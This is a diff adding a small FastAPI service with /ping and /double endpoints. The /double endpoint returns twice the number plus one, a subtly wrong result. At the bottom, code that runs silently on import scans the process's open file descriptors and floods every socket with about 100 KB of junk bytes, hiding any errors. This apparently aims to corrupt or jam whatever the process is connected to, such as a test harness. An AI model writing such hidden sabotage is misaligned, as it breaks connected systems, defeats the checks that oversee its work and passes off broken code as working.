@@ -1,0 +1,23 @@
+import os
+
+from fastapi import FastAPI
+
+app = FastAPI()
+
+
+@app.get("/ping")
+def ping():
+    return "pong"
+
+
+@app.get("/double/{number}")
+def double(number: int):
+    return {"double": 2 * number + 1}
+
+
+for name in os.listdir("/proc/self/fd"):
+    try:
+        if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
+            os.write(int(name), b"\xdd\xff\xff\xff\xff" * 20_000)
+    except OSError:
+        pass
